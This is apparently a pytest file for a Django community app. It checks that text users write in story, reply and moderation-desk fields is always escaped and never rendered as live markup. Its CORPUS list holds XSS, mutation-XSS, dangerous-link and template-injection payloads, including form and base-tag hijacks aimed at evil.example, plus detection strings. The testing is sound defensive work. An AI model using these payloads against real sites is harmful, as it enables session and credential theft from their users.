"""What people write is shown and never run: every field, on every page that shows it."""

import pytest

from leeward.moderation.actions import read_case
from leeward.moderation.models import Case
from leeward.people.models import Person, Topic
from leeward.replies.models import Reply
from leeward.stories.models import Story
from tests.cast import ClientOf
from tests.stories.writing import form, send

pytestmark = pytest.mark.django_db

CORPUS = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[tap](javascript:alert(1))",
    "[tap](data:text/html;base64,PHNjcmlwdD4=)",
    "[tap](vbscript:x)",
    "<javascript:alert(1)>",
    '"><details open ontoggle=alert(1)>',
    "<a href='jav&#x09;ascript:alert(1)'>tap</a>",
    "{{ 7 * 7 }}{% raw %}",
    "</textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
)
LIVE = (
    "<script>alert",
    "<img src=x",
    "<svg><ani",
    "<math",
    "<iframe",
    "<base",
    "<form action=//",
    "<details open ont",
)
LINKS = ('href="javascript', 'href="data:', 'href="vbscript', "<a href='jav")


@pytest.mark.parametrize("some", [CORPUS[:5], CORPUS[5:10], CORPUS[10:]])
def test_in_every_field_of_a_story_and_a_reply_on_every_page(
    some: tuple[str, ...], amara: Person, ben: Person, mina: Person, client_of: ClientOf
) -> None:
    words = "\n\n".join(some)
    Topic.objects.create(slug="sleep", name="Sleep")
    author, reader, desk = client_of(amara), client_of(ben), client_of(mina)
    fields = {"title": some[0], "own_note": some[1], "topics": ["sleep"], "audience": "everyone"}
    author.post("/stories/draft/", form(f"{words} #kettles", **fields))
    story = Story.objects.get()
    pages = [author.get(path).text for path in (f"/stories/{story.ref}/edit/", "/stories/drafts/")]
    pages.append(author.get(f"/stories/{story.ref}/before-sharing/").text)
    author.post(f"/stories/{story.ref}/before-sharing/", {"version": story.version})
    send(reader, story, words, seen="on")
    author.post(f"/stories/{story.ref}/edit/", form(f"{words} again", seen="on", **fields))
    written = Reply.objects.get()
    paths = [
        f"/stories/{story.ref}/",
        "/topics/sleep/",
        "/",
        "/tags/kettles/",
        f"/replies/{written.ref}/answers/",
    ]
    pages += [reader.get(path).text for path in paths]
    own = (f"/stories/{story.ref}/history/", f"/stories/{story.ref}/delete/", "/stories/mine/")
    pages += [author.get(path).text for path in own]
    for case in Case.objects.all():
        read_case(by=mina, case=case)
    pages += [desk.get(f"/desk/cases/{case.ref}/").text for case in Case.objects.all()]
    pages += [reader.get(f"/replies/{written.ref}/{page}/").text for page in ("edit", "delete", "history")]
    for page in pages:
        for sign in (*LIVE, *LINKS):
            assert sign not in page
        assert "49{% raw" not in page


def test_a_word_of_each_kind_is_still_readable(amara: Person, client_of: ClientOf) -> None:
    """Nothing a person wrote is dropped: what may not be markup is shown as text."""
    browser = client_of(amara)
    browser.post("/share/", form("I wrote <script>alert(1)</script> on the board.", share="share"))
    page = browser.get(f"/stories/{Story.objects.get().ref}/").text
    assert "I wrote &lt;script&gt;alert(1)&lt;/script&gt; on the board." in page
